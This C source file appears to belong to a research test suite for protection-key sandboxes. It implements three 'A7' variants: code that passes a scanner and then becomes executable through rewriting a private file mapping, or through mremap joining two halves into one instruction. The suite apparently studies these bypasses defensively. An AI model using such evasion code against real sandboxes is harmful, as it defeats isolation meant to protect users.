/* A7: code that is harmless when it is scanned. A private file mapping shows what is
 * written to the file later (by path, or by a descriptor that was open before); two
 * harmless halves become an instruction when one mapping is moved behind the other.
 *
 * Source: [PKU Pitfalls], mmap(2) on MAP_PRIVATE, mremap(2).
 */
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>
#include "attack.h"
#include "machinecode.h"

#define RW (PROT_READ | PROT_WRITE)
#define RX (PROT_READ | PROT_EXEC)

static char path[] = "/tmp/attack-a7-XXXXXX";
static int file = -1;
static unsigned char *code;

static void map_file(void) {
    static unsigned char page[PAGE_BYTES] = {0x31, 0xc0, 0xc3}; /* xor eax, eax; ret: nothing, and no error */
    file = mkstemp(path);
    if (file < 0 || write(file, page, sizeof page) != sizeof page) return;
    code = mmap(NULL, PAGE_BYTES, RX, MAP_PRIVATE, file, 0);
    ((void (*)(void))(uintptr_t)code)(); /* the page is there, and is not a copy */
}

static void map_file_and_close(void) {
    map_file();
    close(file);
}

static void rewrite(int fd) {
    unsigned char opener[OPENER_BYTES_MOST];
    size_t bytes = machinecode_opener(opener);
    TRY("pwrite", pwrite(fd, opener, bytes, 0));
    TRY("opener", machinecode_open(code));
    attack_read();
}

static void by_path(void) {
    int fd = (int)TRY("open", open(path, O_RDWR));
    rewrite(fd);
}

static void by_descriptor(void) { rewrite(file); }

static void forget_file(void) { unlink(path); }

static unsigned char *halves[2]; /* the second has to move behind the first */

static void map_halves(void) {
    unsigned char *room = mmap(NULL, 4 * PAGE_BYTES, RW, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (room == MAP_FAILED) return;
    room[PAGE_BYTES - 1] = 0x0f;
    memcpy(room + 3 * PAGE_BYTES, "\x01\xef\xc3", 3);
    halves[0] = room;
    halves[1] = room + 3 * PAGE_BYTES;
    (void)mprotect(halves[0], PAGE_BYTES, RX);
    (void)mprotect(halves[1], PAGE_BYTES, RX);
}

static void move(void) {
    void *moved = mremap(halves[1], PAGE_BYTES, PAGE_BYTES, MREMAP_MAYMOVE | MREMAP_FIXED, halves[0] + PAGE_BYTES);
    TRY("mremap", moved == MAP_FAILED ? -1 : 0);
    machinecode_call_zeroed(halves[0] + PAGE_BYTES - 1);
    attack_read();
}

const struct attack attacks[] = {
    {.variant = "file-by-path", .prepare = map_file_and_close, .attack = by_path, .host = forget_file},
    {.variant = "file-by-descriptor", .prepare = map_file, .attack = by_descriptor, .host = forget_file},
    {.variant = "mremap", .prepare = map_halves, .attack = move},
    {0},
};
